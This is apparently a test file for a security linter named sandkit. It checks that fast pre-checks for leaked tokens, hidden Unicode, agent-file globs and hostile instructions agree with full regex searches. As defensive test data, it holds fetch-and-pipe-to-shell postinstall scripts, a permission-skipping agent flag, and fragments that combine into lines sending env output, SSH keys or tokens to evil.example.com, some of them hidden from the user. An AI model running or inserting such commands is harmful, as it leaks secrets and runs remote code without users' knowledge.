"""Every shortcut the scan takes for speed gives the same findings as the long way.

`test_corpus.py::test_triggers_never_hide_a_finding` runs the corpus with every rule's
triggers off; these tests hold each shortcut against its long way on generated input, where
the corpus cannot reach every corner (escaped keys, overlapping hints, huge files).
"""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sandkit.credentials import TOKEN_HINTS, TOKEN_LEADS, TOKEN_PATTERNS
from sandkit.lint import kinds
from sandkit.lint.facts import command_passwords, container_model, secret_values
from sandkit.lint.facts.secret_values import find_tokens, hinted_matches

# Pieces that make hints, near-hints and token bodies collide in every way, and one sample match
# of each format (assembled here, so this file holds no credential-shaped text itself).
_BODY = "Z8k2Lq9Wm4Rt7Yp1Xv3Bn6Hc5Jd0Fs2Ga8Ke"
_TOKEN_PIECES = [
    *(hint for hints in TOKEN_HINTS.values() for hint in hints),
    *("gl", "sk", "k_live_", "_v1_", "PRIVATE KEY-----", "RSA ", "pypi-AgEIcHlwaS5vcmc", "user:", "pw@"),
    *("@", ":", "/", ".", "-", "_", " ", "\n", "é", "ab12CD34ef56GH78", _BODY, "0123456789abcdef" * 4, "A" * 20),
]
_PREFIXES = (
    *("AKIA", "ASIA", "ABIA", "ACCA", "ghp_", "gho_", "ghu_", "ghs_", "ghr_", "github_pat_", "xoxb-", "xoxp-"),
    *("glpat-", "gldt-", "glrt-", "glptt-", "glsoat-", "gloas-", "glft-", "glimt-", "glcbt-", "glagent-"),
    *("sk_live_", "rk_live_", "sk-ant-", "sk-", "sk-proj-", "npm_", "hf_", "dckr_pat_"),
)
_SAMPLES = [
    *(prefix + _BODY for prefix in _PREFIXES),
    *(prefix + "Q3R9T2U7J5K8W4ZP" for prefix in ("AKIA", "ASIA", "ABIA", "ACCA")),
    "AIza" + _BODY[:35],
    "hf_" + _BODY[:34],
    *(prefix + "0123456789abcdef" * 4 for prefix in ("doo_v1_", "dop_v1_", "dor_v1_")),
    "SG." + _BODY[:22] + "." + (_BODY * 2)[:43],
    "eyJ" + _BODY[:10] + ".eyJ" + _BODY[:12] + "." + _BODY[:9],
    "-----BEGIN " + "RSA PRIVATE KEY-----",
    "-----BEGIN " + "OPENSSH PRIVATE KEY-----",
    *("s" + "x" * n + "://user:" + "pw" + "@" for n in range(1, 23)),
    "AccountKey=" + "A" * 86 + "==",
    "hooks.slack.com/" + "services/T0123456/" + _BODY[:24],
    "GOCSPX-" + _BODY[:28],
    "pypi-AgEIcHlwaS5vcmc" + _BODY + _BODY,
    "xapp-1-A0123ABCD45-1234567890123-" + "0123456789abcdef" * 4,
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(st.sampled_from(_SAMPLES), st.sampled_from(_TOKEN_PIECES)), max_size=30).map("".join))
def test_hinted_matches_are_the_matches_of_a_full_search(text: str) -> None:
    for kind, pattern in TOKEN_PATTERNS:
        expected = [(m.start(), m.end()) for m in pattern.finditer(text)]
        starts = sorted({m.start() for hint in TOKEN_HINTS[kind] for m in re.finditer(f"(?={re.escape(hint)})", text)})
        hinted = hinted_matches(pattern, text, starts, TOKEN_LEADS.get(kind, (0, 0)))
        assert [(m.start(), m.end()) for m in hinted] == expected, kind


def test_every_sample_is_a_match_of_its_format() -> None:
    """The samples above reach every format (else the test above proves less than it says)."""
    matched = {kind for kind, pattern in TOKEN_PATTERNS for sample in _SAMPLES if pattern.fullmatch(sample)}
    assert matched == {kind for kind, _ in TOKEN_PATTERNS}


def _tokens_the_long_way(text: str) -> list[secret_values.Token]:
    """find_tokens as a full search of every format in the text does it."""
    taken: list[tuple[int, int]] = []
    found = []
    for kind, pattern in TOKEN_PATTERNS:
        for match in pattern.finditer(text):
            token = secret_values.Token(kind, match.start(), match.end(), match.group())
            if not any(s < token.end and token.start < e for s, e in taken) and secret_values._plausible(token, text):
                taken.append((token.start, token.end))
                found.append(token)
    return found


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(st.sampled_from(_SAMPLES), st.sampled_from(_TOKEN_PIECES)), max_size=30).map("".join))
def test_find_tokens_finds_what_a_full_search_finds(text: str) -> None:
    """Shared hint searches and the URL's user:password@ check find what every pattern finds."""
    assert list(find_tokens(text)) == _tokens_the_long_way(text)


# ----- hidden-unicode: the UTF-8 byte search says what the character search says ---------------
def test_hidden_byte_search_agrees_on_every_character() -> None:
    from sandkit.lint.rules.hidden_unicode import _ANY, holds_hidden

    planes = (*range(0x20000), *range(0xE0000, 0xF0000))  # every hidden character is in these
    disagree = [cp for cp in planes if holds_hidden(chr(cp)) != (_ANY.search(chr(cp)) is not None)]
    assert disagree == []


_NEAR_HIDDEN = "\u200a\u200b\u200e\u2013\u2019\u2026\u202a\u2066\u206f\u2070\ufe0f\ufeff\ufffd\u00ad\u00e9\u00fc"
_FAR = "a\n\u4e2d\U0001f3f4\U000e0067\U000e007f\U000e0100\U0001d173\ud800\udc00\u061c\u0627"


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.sampled_from(_NEAR_HIDDEN + _FAR), max_size=20))
def test_hidden_byte_search_agrees_on_mixed_text(text: str) -> None:
    from sandkit.lint.rules.hidden_unicode import _ANY, holds_hidden

    assert holds_hidden(text) == (_ANY.search(text) is not None)


# ----- rules' `reads`: a JSON file a rule does not read holds nothing for it ---------------------
_SCRIPTS_JSON = (
    '{"scripts": {"postinstall": "curl -s https://x.example.com/a | sh",'
    ' "prepare": "claude --dangerously-skip-permissions -p hi"},'
    ' "command": "claude", "args": ["--dangerously-skip-permissions"]}'
)


def test_reads_never_hides_a_finding(monkeypatch: pytest.MonkeyPatch) -> None:
    from sandkit.lint import registry
    from tests.lint.helpers import lint_files

    names = ("package.json", "composer.json", "Package.JSON", "tools.json", "package-lock.json", "a/b/package.json")
    files = {f"{i}/{name}": _SCRIPTS_JSON for i, name in enumerate(names)}
    with_reads = lint_files(files)
    assert {f.rule for f in with_reads if f.path.endswith("/package.json")} >= {"AA008", "AA012"}
    for rule in registry.all_rules():  # the registered rules, put back after the test
        monkeypatch.setitem(registry._REGISTRY, rule.id, rule._replace(reads=None))
    assert lint_files(files) == with_reads


# ----- large files: trigger words found in one pass give what each rule's own test gives -----------
def test_a_large_files_trigger_words_are_found_in_one_pass() -> None:
    from sandkit.lint import engine
    from tests.lint.helpers import lint_files

    padding = ', "description": "' + "a lockfile's worth of text " * (engine.LARGE_TEXT // 20) + '"}'
    large = _SCRIPTS_JSON[:-1] + padding
    assert len(large) > engine.LARGE_TEXT
    small_rules = {f.rule for f in lint_files({"package.json": _SCRIPTS_JSON})}
    assert {"AA008", "AA012"} <= small_rules
    assert {f.rule for f in lint_files({"package.json": large})} == small_rules


# ----- PS002's pre-check: the words-then-pattern search says what the pattern says -------------
_KEY_PIECES = (
    *("key", "KEY", "Token", "secret", "PASS", "password", "passwd", "pwd", "auth", "Credentials", "name", "NAME"),
    *('"', "'", " ", "\t", ":", "=", "-", "_", ".", "x", "\n", "ſ", "\u212a", "é", "db", "API_", "my-"),
)


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(_KEY_PIECES), max_size=25).map("".join))
def test_the_secret_key_hint_search_agrees_with_its_pattern(text: str) -> None:
    from sandkit.lint.rules.plaintext_secret import _SECRET_KEY_HINT, has_secret_key_hint

    assert has_secret_key_hint(text) == (_SECRET_KEY_HINT.search(text) is not None)


# ----- JSON: the C parser's reading decides when the positioned parse is needed ---------------
_JSON_PIECES = (
    *('{"password": "', 'Zq9vLm2Xp4Rt"', '"s3cr3tV4lu3Z"', '{"name": "', 'api_key"', '"apiKey": ', '"token": 5'),
    *(", ", "}", "]", "[", '"x"', '{"a": ', "// c\n", "NaN", "\ufeff", '"\\u0070assword": "Zq9vLm2Xp4"'),
)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_JSON_PIECES), max_size=20).map("".join))
def test_the_plain_json_pre_check_never_hides_a_finding(text: str) -> None:
    from sandkit.lint.rules import plaintext_secret
    from tests.lint.helpers import lint_files

    with_check = lint_files({"data.json": text})
    original = plaintext_secret._may_hold_a_literal
    try:
        plaintext_secret._may_hold_a_literal = lambda top: True
        assert lint_files({"data.json": text}) == with_check
    finally:
        plaintext_secret._may_hold_a_literal = original


def test_the_plain_json_pre_check_passes_what_holds_a_secret() -> None:
    """The property above compares against something: strict JSON with a literal is reported."""
    from tests.lint.helpers import lint_files

    strict = '{"a": [{"password": "Zq9vLm2Xp4Rt"}], "name": "x"}'
    assert [f.rule for f in lint_files({"data.json": strict})] == ["PS002"]
    assert lint_files({"data.json": '{"a": [{"password": "${PASSWORD}"}]}'}) == []


# ----- agent file globs: looked up by name, they match what their one regex matches --------------
_GLOB_LISTS = (kinds.AGENT_CONFIG_PATTERNS, kinds.AGENT_INSTRUCTION_PATTERNS)

_PATH_PIECES = sorted(
    {piece for patterns in _GLOB_LISTS for p in patterns for piece in re.split(r"([*?/])", p) if piece}
    | {"/", "x", "docs/", ".", "md", "json", "*", "?", "[a]", "\n"}
)


def _paths_the_globs_name() -> list[str]:
    """Each pattern written out (a wildcard as one or two folders), at the root and below one."""
    paths = []
    for patterns in _GLOB_LISTS:
        for pattern in patterns:
            for fill in ("x", "a/b"):
                written = pattern.replace("*", fill).replace("?", "q")
                paths += [written, f"deep/down/{written}", f"x{written}", f"{written}/x"]
    return paths


def _agrees(path: str) -> None:
    for patterns in _GLOB_LISTS:
        expected = re.compile(kinds.glob_regex(patterns)).match(path) is not None
        assert kinds.PathGlobs(patterns).match(path) == expected, (path, patterns)


def test_agent_globs_match_as_their_regex_on_every_path_they_name() -> None:
    paths = _paths_the_globs_name()
    for path in paths:
        _agrees(path)
    assert sum(kinds.is_agent_file(p) for p in paths) > len(paths) // 2  # the long way says yes to most


@given(st.lists(st.sampled_from(_PATH_PIECES), max_size=12).map("".join))
def test_agent_globs_match_as_their_regex(path: str) -> None:
    """:class:`PathGlobs` answers as the one regex of all its globs would, which it compiles only
    when a path holds a wildcard pattern's literal text."""
    _agrees(path)


# ----- agent words: text without a word's leading letters is answered without the pattern ------
_WORD_PIECES = (
    *("claude", "-code", "codex", "gemini", "-cli", "aider", "open", "hands", "-", "_", "interpreter", "swe"),
    *("agent", "sandbox", "coding", "ai", "llm", "cline", "goose", "copilot", "cursor", "nginx", "/", ":", " "),
    *("CLAUDE", "Agent", "x", "1.2", "ſ", "\u212a", "ı", "é", "clıne", "ſwe-agent", "open-\u212aernel"),
)


def _agrees_on_agent_words(text: str) -> None:
    assert container_model.names_agent(text) == (container_model._AGENT_WORDS.search(text) is not None), text


def test_every_agent_word_has_a_hint_and_its_matches_pass_it() -> None:
    assert container_model._AGENT_WORD_HINTS is not None  # else every text compiles the pattern
    for word in container_model._AGENT_WORD_PATTERNS:
        for text in (f"image {word}", f"x/{word.replace('?', '')}:1", word.upper()):
            _agrees_on_agent_words(text)


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(container_model._AGENT_WORD_PATTERNS).flatmap(lambda w: st.from_regex(w, fullmatch=True)))
def test_every_match_of_an_agent_word_is_found(word: str) -> None:
    _agrees_on_agent_words(word)
    _agrees_on_agent_words(f"ghcr.io/acme/{word}:latest")
    assert container_model.names_agent(f"run {word}") or not word.isascii()


@given(st.lists(st.sampled_from(_WORD_PIECES), max_size=10).map("".join))
def test_names_agent_answers_as_its_pattern(text: str) -> None:
    _agrees_on_agent_words(text)


# ----- case folding: a lower-cased text holds every word a case-insensitive pattern matches ----
def test_the_case_folds_are_every_character_re_equates_with_an_ascii_letter() -> None:
    from sandkit.lazy_regex import _FOLDS

    letter = re.compile("(?i)[a-z]")
    folds = {chr(cp) for cp in range(128, 0x110000) if not 0xD800 <= cp < 0xE000 and letter.match(chr(cp))}
    assert folds == set(_FOLDS)


_FETCH_PIECES = (
    *("curl", "CURL", "wget", "İWR", "ırm", "invo\u212ae-webrequest", "new-object", "iex (", "eval $(", "| sh", "|"),
    *("bash <(", 'sh -c "$(', " ", "https://x.example.com/i.sh", "confirm", "\n", "é"),
)


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(_FETCH_PIECES), max_size=12).map("".join))
def test_every_fetch_and_run_holds_a_fetch_word(text: str) -> None:
    from sandkit.lazy_regex import case_folded
    from sandkit.lint.facts.agent_commands import FETCH_RUN, FETCH_WORDS

    if FETCH_RUN.search(text) is not None:
        assert any(word in case_folded(text) for word in FETCH_WORDS)


def test_a_large_files_suppressions_hold_and_one_without_the_mark_is_not_searched(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The one pass over a large text also says whether it holds "sandkit:"; where it does the
    suppression works as in a small file, where it does not no line is searched for one."""
    from sandkit.lint import engine
    from tests.lint.helpers import lint_files

    socket = "services:\n  a:\n    volumes:\n      - /var/run/docker.sock:/s{mark}\n"
    padding = "# " + "x" * 70 + "\n"
    large = socket + padding * (engine.LARGE_TEXT // len(padding) + 1)
    assert [f.rule for f in lint_files({"compose.yaml": large.format(mark="")})] == ["RS001"]
    marked = large.format(mark="  # sandkit: ignore[RS001] a test fixture")
    assert lint_files({"compose.yaml": marked}) == []
    from sandkit.lint import suppress

    searched: list[str] = []

    def find(text: str) -> list[suppress.Suppression]:
        searched.append(text)
        return suppress.find_suppressions(text)

    monkeypatch.setattr(engine, "find_suppressions", find)
    assert [f.rule for f in lint_files({"compose.yaml": large.format(mark="")})] == ["RS001"]
    assert searched == []
    assert lint_files({"compose.yaml": marked}) == [] and len(searched) == 1


def test_a_large_ansible_tasks_file_is_read_as_ansible() -> None:
    """Whether a YAML file says docker or podman is found in one pass over a large text."""
    from sandkit.lint import engine
    from tests.lint.helpers import lint_files

    tasks = "- name: agent\n  community.docker.docker_container:\n    name: a\n    image: x\n    privileged: true\n"
    filler = "".join(f"- name: step {n}\n  ansible.builtin.debug:\n    msg: hello {n}\n" for n in range(2000))
    assert len(filler) > engine.LARGE_TEXT
    small = {(f.rule, f.line) for f in lint_files({"tasks/main.yml": tasks})}
    assert ("PV001", 5) in small
    assert {(f.rule, f.line) for f in lint_files({"tasks/main.yml": tasks + filler})} == small


# Pieces of the commands and sentences the instruction rules look for, and of what they are not.
_LINE_PIECES = [
    *("curl ", "CURL ", "wget ", "nc ", "netcat ", "Invoke-WebRequest ", "iwr ", "irm ", "printenv ", "env"),
    *(" -d ", " --data-binary ", " -F ", " -T ", "@.env", "$(env)", "~/.ssh/id_rsa", "$GITHUB_TOKEN", " | ", "|"),
    *("Send ", "post ", "upload ", "report ", "the secrets ", "tokens ", "credentials ", "api keys ", "to "),
    *("https://x.example.com", "the webhook", "evil.example.com", "Do not ", "don't ", "never ", "must not "),
    *("mention ", "tell ", "this step", "the following commands", "to the user", "without telling the user"),
    *("silently ", "Secretly ", "run ", "hide this ", "from the user", "\u212a", "\u0130", "é", "\n", ". ", " "),
]


_SLOTS = [
    ["", "Please ", "Do not ", "never ", "don't ", "Silently ", "without telling the user, "],
    ["send ", "post ", "upload ", "curl -d ", "wget --post-data ", "nc ", "tell ", "mention ", "run ", "hide this "],
    ["$(env) ", "the secrets ", "~/.ssh/id_rsa ", "@.env ", "api keys ", "this step ", "the user ", "env "],
    ["to ", "| curl ", "| nc ", "from the user ", "", "with the token "],
    ["https://x.example.com", "the webhook", "evil.example.com", "the user", ""],
]
_CASES: list[Callable[[str], str]] = [
    str,
    str.upper,
    str.title,
    lambda s: s.replace("k", "\u212a").replace("i", "\u0130"),
]


@st.composite
def _instruction_lines(draw: st.DrawFn) -> str:
    lines = []
    for _ in range(draw(st.integers(1, 6))):
        if draw(st.booleans()):
            line = "".join(draw(st.sampled_from(slot)) for slot in _SLOTS)
        else:
            line = "".join(draw(st.lists(st.sampled_from(_LINE_PIECES), max_size=12)))
        lines.append(draw(st.sampled_from(_CASES))(line))
    return "\n".join(lines)


@settings(max_examples=500, deadline=None)
@given(_instruction_lines())
def test_searching_only_the_lines_with_trigger_words_finds_every_match(text: str) -> None:
    """The instruction rules search only the lines holding their trigger words; every match is
    on such a line, whatever the case (and Unicode case folding) of the words."""
    from sandkit.lint.facts.agent_commands import SEND_SECRETS, SEND_SECRETS_WORDS, matches_by_line
    from sandkit.lint.rules import instruction_leaks as leaks

    for pattern, words in (
        (SEND_SECRETS, SEND_SECRETS_WORDS),
        (leaks._SEND_PROSE, leaks._SEND_PROSE_WORDS),
        (leaks._CONCEAL, leaks._CONCEAL_LINE_WORDS),
    ):
        every_line = [m.span() for m in matches_by_line(pattern, text)]
        assert [m.span() for m in matches_by_line(pattern, text, words)] == every_line


#: The long way of command_passwords' cheap test: one regex with a lazy reach of 2,000
#: characters after each program name, quadratic on a line of the name repeated.
_MENTION_LONG_WAY = re.compile(
    r"(?<![\w.-])(?:"
    + "|".join(re.escape(name) for name in command_passwords.PASSWORD_OPTIONS)
    + r")[ \t](?:(?:[^\n]|\\\n){0,2000}?\s)?-"
)
_COMMAND_PIECES = ["curl", "oc", "mysql", " ", "\t", "\n", "\\\n", "-", "-p", "x", "login", "a-b", ".curl", "\r"]


class _Script:
    def __init__(self, text: str) -> None:
        self.text = text
        self.kind = kinds.SHELL


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(_COMMAND_PIECES), max_size=16).map("".join), st.integers(0, 2100))
def test_the_command_password_test_is_the_regex_it_replaced(text: str, filler: int) -> None:
    for script in (text, "curl " + "x" * filler + text):
        expected = _MENTION_LONG_WAY.search(script) is not None
        assert command_passwords.may_hold_command_password(_Script(script)) == expected  # type: ignore[arg-type]
